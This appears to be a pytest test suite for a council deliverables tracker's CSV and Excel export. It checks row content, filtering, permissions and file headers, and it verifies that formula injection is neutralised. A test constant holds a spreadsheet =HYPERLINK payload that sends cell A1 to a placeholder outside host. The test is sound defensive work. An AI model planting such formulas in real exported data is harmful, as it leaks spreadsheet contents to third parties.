"""Tests of the export: the same rows as the page with the same query, and no text that a spreadsheet runs."""

import csv
from datetime import UTC, date, datetime
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from councils.permissions import ROLE_PERMISSIONS, Permission, Role
from councils.tenancy import council_context
from deliverables.models import Deliverable
from strategies.models import Strategy
from tests.factories import (
    AssignmentFactory,
    DeliverableFactory,
    DuePointFactory,
    OrganisationFactory,
    PeriodFactory,
    PersonFactory,
    ProgressUpdateFactory,
    StrandFactory,
)

HOSTILE = '=HYPERLINK("https://elsewhere.example.org?"&A1, "Open")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def plan(cast):
    with council_context(cast.council.id):
        strand = StrandFactory(code="A", title="Inclusion", strategy__title="SEND Strategy")
        partner = OrganisationFactory(name="Trust")
        hubs = DeliverableFactory(strand=strand, position=1, title="Hubs", accountable=partner)
        olive = PersonFactory(initials="OF", name="Olive Firth")
        AssignmentFactory(deliverable=hubs, person=olive, qualifier="launch")
        AssignmentFactory(deliverable=hubs, person=PersonFactory(initials="JK"), role="joint", position=2)
        AssignmentFactory(deliverable=hubs, person=PersonFactory(initials="RP"), role="reporting", position=3)
        for position, (due_on, done_on) in enumerate(
            [(date(2016, 4, 30), date(2016, 4, 3)), (date(2016, 9, 30), None), (date(2017, 4, 30), None)], 1
        ):
            DuePointFactory(deliverable=hubs, position=position, due_on=due_on, done_on=done_on)
        ProgressUpdateFactory(
            deliverable=hubs,
            rag="amber",
            narrative="- Two of five\n- Three to come",
            reason="+1 vacancy",
            by_name="Demo Officer",
            recorded_at=datetime(2016, 7, 1, 12, tzinfo=UTC),
            sample=True,
        )
        DeliverableFactory(strand=strand, position=2, number="2.", title=HOSTILE)


def address(cast, kind):
    return reverse("deliverables:export", kwargs={"council": cast.council.slug, "kind": kind})


def read(cast, kind, query=None, role=Role.OFFICER):
    """Rows of the file, each as a dict by heading."""
    response = cast.client(role).get(address(cast, kind), query or {})
    assert response.status_code == 200
    if kind == "csv":
        rows = list(csv.reader(StringIO(response.content.decode("utf-8-sig"), newline="")))
    else:
        [page] = load_workbook(BytesIO(response.content)).worksheets
        rows = [list(row) for row in page.iter_rows(values_only=True)]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_says_everything_of_each(cast, plan):
    hubs, _ = read(cast, "csv")
    with council_context(cast.council.id):
        public_id = str(Deliverable.objects.get(title="Hubs").public_id)
    assert hubs == {
        "Plan": "SEND Strategy",
        "Code": "A",
        "Strand": "Inclusion",
        "No.": "1",
        "Deliverable": "Hubs",
        "Leads": "Olive Firth (OF, launch); JK",
        "Reporting to": "RP",
        "Due": "Apr 2016 (done); Sep 2016; Apr 2017",
        "Original due date": "2016-04-30",
        "Last open due date": "2017-04-30",
        "Stated RAG": "Amber",
        "Stated for": "Q1 2016–17",
        "Stated by": "Demo Officer",
        "Stated on": "2016-07-01",
        "Schedule RAG": "Green",
        "Schedule reason": "A part is due by Sep 2016, in 2 months.",
        "Disagreement": "",
        "No update": "",
        "Update": "'- Two of five\n- Three to come",
        "Reason": "'+1 vacancy",
        "Path to green": "Book another.",
        "Forecast": "2016-09-30",
        "Accountable": "Trust",
        "Sample": "yes",
        "As at": "2016-07-08",
        "Id": public_id,
    }


def test_xlsx_says_the_same_with_real_dates(cast, plan):
    [as_csv, _], [as_xlsx, _] = read(cast, "csv"), read(cast, "xlsx")
    dates = {name for name, cell in as_xlsx.items() if isinstance(cell, datetime)}
    assert dates == {"Original due date", "Last open due date", "Stated on", "Forecast", "As at"}
    in_words = {name: f"{cell:%Y-%m-%d}" if name in dates else cell or "" for name, cell in as_xlsx.items()}
    assert in_words == {name: cell.removeprefix("'") for name, cell in as_csv.items()}


@pytest.mark.parametrize(("kind", "title"), [("csv", f"'{HOSTILE}"), ("xlsx", HOSTILE)])
def test_what_looks_like_a_formula_is_text(cast, plan, kind, title):
    _, hostile = read(cast, kind)
    assert hostile["Deliverable"] == title


def test_no_cell_of_the_sheet_is_a_formula_or_a_link(cast, plan):
    content = cast.client().get(address(cast, "xlsx")).content
    [page] = load_workbook(BytesIO(content)).worksheets
    cells = [cell for row in page.iter_rows() for cell in row]
    assert HOSTILE in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert not any(cell.hyperlink for cell in cells)


def test_what_nobody_has_said_is_left_empty(cast, plan):
    _, hostile = read(cast, "xlsx")
    assert {name for name, cell in hostile.items() if cell is None} == {
        *(
            "Leads",
            "Reporting to",
            "Due",
            "Original due date",
            "Last open due date",
            "Stated for",
            "Stated by",
        ),
        *("Stated on", "Disagreement", "Update", "Reason", "Path to green"),
        *("Forecast", "Accountable"),
    }
    assert (hostile["Stated RAG"], hostile["No update"], hostile["Sample"]) == (
        "Not rated",
        "Never updated",
        "no",
    )


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "query",
    [
        {},
        {"rag": "amber"},
        {"lead": "nobody", "sort": "-plan"},
        {"sort": "-due"},
        {"sort": "stated", "strand": "A", "q": "d"},
        {"due": "overdue"},
        {"quarter": "2015-16-Q4"},
        {"rag": "blue"},
    ],
)
def test_a_file_holds_what_the_page_shows_in_its_order(cast, plan, kind, query):
    with council_context(cast.council.id):
        PeriodFactory(label="2015-16-Q4", closed_at=datetime(2016, 5, 1, tzinfo=UTC))
        strand = StrandFactory(code="B", strategy=Strategy.objects.get())
        for number in range(60):
            each = DeliverableFactory(strand=strand, title=f"Deed {number}", position=number + 1)
            DuePointFactory(deliverable=each, due_on=date(2016, 1 + number % 12, 28))
    client, shown, url = cast.client(), [], reverse("deliverables:list", kwargs={"council": "northport"})
    pages = range(1, client.get(url, query).context["page"].paginator.num_pages + 1)
    for page in pages:
        shown += client.get(url, query | {"page": page}).context["states"]
    rows = read(cast, kind, query | {"page": "2"})
    assert [row["Id"] for row in rows] == [str(state.deliverable.public_id) for state in shown]
    assert [row["Stated RAG"] for row in rows] == [state.stated.rag.word for state in shown]
    assert [row["Schedule reason"] for row in rows] == [state.schedule.reason for state in shown]


def test_the_page_links_to_files_of_what_it_shows(cast, plan):
    page = cast.client().get(
        reverse("deliverables:list", kwargs={"council": "northport"}),
        {"rag": ["amber", "red"], "lead": "OF", "page": "1", "sort": "-due"},
    )
    links = dict(page.context["export_urls"])
    assert links["CSV"].startswith("/northport/deliverables/export/csv/?rag=amber&rag=red&lead=")
    assert links["Excel"].endswith("&sort=-due")
    assert cast.client().get(links["CSV"]).status_code == 200


@pytest.mark.parametrize(("kind", "media_type"), [("csv", "text/csv; charset=utf-8"), ("xlsx", XLSX)])
def test_a_file_is_named_after_council_and_quarter(cast, plan, kind, media_type):
    response = cast.client().get(address(cast, kind))
    assert response["Content-Type"] == media_type
    name = f"northport-deliverables-2016-17-Q1.{kind}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Cache-Control"] == "private, no-store"


def test_a_file_speaks_the_plans_own_words(cast, plan):
    with council_context(cast.council.id):
        Strategy.objects.update(strand_noun="Section", deliverable_noun="Milestone")
    row, _ = read(cast, "csv")
    assert (row["Section"], row["Milestone"]) == ("Inclusion", "Hubs")
    content = cast.client().get(address(cast, "xlsx")).content
    assert load_workbook(BytesIO(content)).sheetnames == ["Milestones"]


def test_names_are_kept_from_those_who_may_not_see_them(cast, plan, monkeypatch):
    without = ROLE_PERMISSIONS[Role.READER] - {Permission.PEOPLE_NAMES}
    monkeypatch.setitem(ROLE_PERMISSIONS, Role.READER, without)
    row, _ = read(cast, "csv", role=Role.READER)
    assert (row["Leads"], row["Stated by"]) == ("OF (launch); JK", "")


@pytest.mark.parametrize("role", list(Role))
def test_every_member_can_take_the_files(cast, plan, role):
    assert len(read(cast, "csv", role=role)) == len(read(cast, "xlsx", role=role)) == 2


@pytest.mark.parametrize("method", ["get", "post"])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_for_an_outsider_there_is_no_such_file(cast, plan, kind, method):
    assert getattr(cast.outsider_client(), method)(address(cast, kind)).status_code == 404


@pytest.mark.parametrize("method", ["post", "put", "delete"])
def test_files_are_only_read(cast, plan, method):
    assert getattr(cast.client(), method)(address(cast, "csv")).status_code == 405


@pytest.mark.parametrize("kind", ["pdf", "ods"])
def test_there_are_no_other_kinds_of_file(cast, plan, kind):
    assert cast.client().get(f"/northport/deliverables/export/{kind}/").status_code == 404


def test_a_file_of_nothing_has_its_headings(cast, plan):
    assert read(cast, "csv", {"q": "nowhere"}) == []
